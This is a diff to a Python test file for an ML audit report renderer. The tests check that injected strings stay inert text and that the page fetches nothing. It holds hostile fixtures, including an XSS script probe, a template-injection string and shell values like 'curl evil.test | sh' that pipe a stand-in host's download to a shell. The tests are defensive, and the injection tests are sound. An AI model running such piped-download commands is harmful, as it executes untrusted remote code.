@@ -20,11 +20,12 @@ from report_cases import (
     Page,
     make_audit,
     make_flagged,
+    make_influence,
     make_scores,
 )
 
 from forward_inf_mlflow.errors import DataError, TrackingError
-from forward_inf_mlflow.report import render, thumbnail
+from forward_inf_mlflow.report import Portraits, render, thumbnail
 
 
 def hostile(value: Any) -> Any:
@@ -36,7 +37,7 @@ def hostile(value: Any) -> Any:
     return HOSTILE if isinstance(value, str) else value
 
 
-OURS = (files("forward_inf_mlflow.report") / "slider.js").read_text("utf-8")
+OURS = (files("forward_inf_mlflow.report") / "report.js").read_text("utf-8")
 
 
 def scripts(html: str) -> list[str]:
@@ -51,27 +52,61 @@ def test_hostile_strings_stay_text_wherever_they_stand() -> None:
     }
     audit["decision"] |= {"outcome": "fail"}
     words = [c for c in COLUMNS if c not in ("verdict", "score", "loss", "same_label")]
-    flagged = make_flagged(**dict.fromkeys(words, HOSTILE))
+    flagged = make_flagged(1, **dict.fromkeys(words, HOSTILE))
+    scores = make_scores().assign(label=HOSTILE, source=HOSTILE)
+    scores.loc[0, "id"], scores.loc[1, "copy_of"] = HOSTILE, HOSTILE
+    scores.loc[0, "copy_conflicts"] = scores.loc[1, "copy_conflicts"] = True
+    sides = [
+        (f"{role}:{HOSTILE}", HOSTILE, value) for role in ("train", "query") for value in (1, -1)
+    ]
+    values = {f"train:{HOSTILE}": [(HOSTILE, f"{HOSTILE} a"), ("n", 1)]}
+    values |= {
+        f"query:{HOSTILE}": [(HOSTILE, f"{HOSTILE} b"), ("n", 2)],
+        "train:c0": [(HOSTILE, HOSTILE)],
+    }
 
-    html = render(audit, flagged, make_scores(), {})
+    html = render(audit, flagged, scores, Portraits({}, values), make_influence(sides))
     page = Page(html)
+
+    assert "Proponents" in page.text
+    assert "<mark>b</mark>" in html
 
     assert scripts(html) == [OURS]
     assert {tag for tag, _ in page.tags}.isdisjoint({"iframe", "object", "link", "form"})
     assert page.attributes("img", "src") == []
     assert not any(name.startswith("on") for _, attrs in page.tags for name in attrs)
-    assert "<script>alert(1)</script>" in page.text
+    assert "<script>alert(1)</script></textarea>" in page.text
+    (area,) = [attrs for tag, attrs in page.tags if tag == "textarea"]
+    assert html.count("</textarea>") == 1, "nothing from data ends it, and nothing is in it"
+    assert area["data-table"] is None
     assert "\u202e" not in page.text, "a bidirectional override would reorder what is read"
     assert "{{7*7}}" in page.text
 
 
 def test_no_script_but_ours_runs_and_it_never_writes_markup() -> None:
-    html = render(make_audit(), make_flagged(), make_scores(), {})
+    html = render(make_audit(), make_flagged(), make_scores())
     assert scripts(html) == [OURS]
     digest = base64.b64encode(hashlib.sha256(OURS.encode()).digest()).decode()
     assert f"script-src 'sha256-{digest}';" in html
     assert not re.search(r"innerHTML|insertAdjacent|document\.write|eval|fetch|import", OURS)
-    assert scripts(render(make_audit(), make_flagged(), NO_SCORES, {})) == []
+    assert scripts(render({}, pd.DataFrame(), NO_SCORES)) == [OURS]
+
+
+def test_values_that_are_of_no_kind_end_no_page() -> None:
+    told = Portraits.read(
+        pd.DataFrame(
+            {
+                "row": ["train:r0", "train:r1", "train:r2", None],
+                "picture": [b"png", "text", None, 7],
+                "values": ["[[", '[["a", {"b": [null]}]]', '{"a": 1}', None],
+            }
+        )
+    )
+    assert told.pictures == {"train:r0": b"png"}
+    assert told.values == {"train:r1": [("a", {"b": [None]})]}
+    assert Portraits.read(pd.DataFrame({"row": [1]})) == Portraits()
+    asked = pd.DataFrame({name: [None, "x"] for name in make_influence().columns})
+    assert "r1" in render(make_audit(), make_flagged(), make_scores(), told, asked)
 
 
 @pytest.mark.parametrize("value", [np.nan, np.inf, -np.inf, -5.0, 1e30])
@@ -79,14 +114,14 @@ def test_no_script_but_ours_runs_and_it_never_writes_markup() -> None:
 def test_the_sliders_numbers_are_numbers_whatever_the_scores(column: str, value: float) -> None:
     scores = make_scores()
     scores.loc[:3, column] = value
-    html = render(make_audit(), make_flagged(), scores.drop(columns="mislabeled"), {})
+    html = render(make_audit(), make_flagged(), scores.drop(columns="mislabeled"))
     found = re.search(r'data-depths="([^"]*)"', html)
     assert found
     assert all(0 <= row[2] <= row[0] for row in json.loads(found[1]))
 
 
 def test_the_page_forbids_scripts_and_the_network_before_anything_else_is_parsed() -> None:
-    html = render(make_audit(), make_flagged(), NO_SCORES, {})
+    html = render(make_audit(), make_flagged(), NO_SCORES)
     page = Page(html)
     (policy,) = [
         attrs["content"]
@@ -101,7 +136,9 @@ def test_the_page_forbids_scripts_and_the_network_before_anything_else_is_parsed
 
 def test_nothing_is_fetched() -> None:
     images = {"train:r0": thumbnail(np.eye(8))}
-    html = render(make_audit(leak_scores=LEAK_SCORES), make_flagged(), make_scores(), images)
+    html = render(
+        make_audit(leak_scores=LEAK_SCORES), make_flagged(), make_scores(), Portraits(images)
+    )
     page = Page(html)
     targets = [
         value or ""
@@ -110,8 +147,10 @@ def test_nothing_is_fetched() -> None:
         if name in ("src", "href", "xlink:href", "srcset", "action", "poster")
     ]
     assert targets
-    assert all(target.startswith(("#", "data:image/png;base64,")) for target in targets)
-    assert not re.search(r"url\(|@import|https?:", html)
+    assert all(target.startswith("#") for target in targets)
+    outside = re.sub(r"url\(data:image/png;base64,[A-Za-z0-9+/=]*\)", "", html)
+    assert outside != html
+    assert not re.search(r"url\(|@import|https?:", outside)
 
 
 @pytest.mark.parametrize(
@@ -126,14 +165,14 @@ def test_the_command_to_promote_is_one_command_whatever_the_model_is_called(
 ) -> None:
     audit = make_audit(decision={"outcome": "pass", "reasons": []})
     audit["model"] |= {"uri": f"models:/{name}/1"}
-    assert pasted in Page(render(audit, make_flagged(), NO_SCORES, {})).text
+    assert pasted in Page(render(audit, make_flagged(), NO_SCORES)).text
 
 
 @pytest.mark.parametrize(
     "repeat", ["curl evil.test | sh", "forward-inf audit x; curl evil.test", "forward-inf 'a", 7]
 )
 def test_the_command_to_repeat_calls_nothing_but_this_tool(repeat: Any) -> None:
-    page = Page(render(make_audit(repeat=repeat), make_flagged(), NO_SCORES, {}))
+    page = Page(render(make_audit(repeat=repeat), make_flagged(), NO_SCORES))
     shown = page.text.split("How to repeat it")[1].strip().splitlines()[0]
     assert shown in ("forward-inf audit models:/m/1", "forward-inf audit 'x;' curl evil.test")
 
@@ -145,13 +184,13 @@ def test_the_command_to_repeat_calls_nothing_but_this_tool(repeat: Any) -> None:
 )
 def test_an_audit_of_another_shape_is_refused_in_one_line(changes: dict[str, Any]) -> None:
     with pytest.raises(TrackingError, match=r"audit the version again") as caught:
-        render(make_audit(**changes), make_flagged(), NO_SCORES, {})
+        render(make_audit(**changes), make_flagged(), NO_SCORES)
     assert "\n" not in str(caught.value)
 
 
 def test_flagged_rows_without_a_verdict_are_refused() -> None:
     with pytest.raises(DataError, match="verdict"):
-        render(make_audit(), make_flagged().drop(columns="verdict"), NO_SCORES, {})
+        render(make_audit(), make_flagged().drop(columns="verdict"), NO_SCORES)
 
 
 @pytest.mark.parametrize("value", [10**400, "0.3", [1], True, float("inf"), None])
@@ -161,7 +200,7 @@ def test_a_value_that_is_no_number_reads_as_a_dash(value: Any) -> None:
     audit["costs"]["rows"] = value
     scores = make_scores().astype(object)
     scores.loc[0, "mislabeled_score"] = str(value)
-    page = render(audit, make_flagged(loss=[value] * 9), scores, {})
+    page = render(audit, make_flagged(loss=[value] * 9), scores)
     assert "<dd>– rows, 557 queries" in page
 
 
@@ -169,13 +208,13 @@ def test_a_value_that_is_no_number_reads_as_a_dash(value: Any) -> None:
 def test_a_report_is_rebuilt_from_an_older_audit_that_lacks(key: str) -> None:
     audit = make_audit()
     del audit[key]
-    page = render(audit, make_flagged(), NO_SCORES, {})
+    page = render(audit, make_flagged(), NO_SCORES)
     assert "Scores are the sensitivity of this trained model, not proof." in page
     assert ("UNDECIDED" in page) == (key == "decision")
 
 
 def test_an_empty_audit_is_undecided() -> None:
-    page = render({}, pd.DataFrame(), pd.DataFrame(), {})
+    page = render({}, pd.DataFrame(), pd.DataFrame())
     assert "UNDECIDED" in page
     assert "No row was flagged." in page
     assert "the audit holds no decision" in page
@@ -183,7 +222,7 @@ def test_an_empty_audit_is_undecided() -> None:
 
 def test_an_unfinished_audit_never_reads_as_a_pass() -> None:
     audit = make_audit(finished=False, decision={"outcome": "pass", "reasons": []})
-    page = render(audit, make_flagged(), NO_SCORES, {})
+    page = render(audit, make_flagged(), NO_SCORES)
     assert "UNDECIDED" in page
     assert "PASS" not in page
     assert "forward-inf promote" not in page
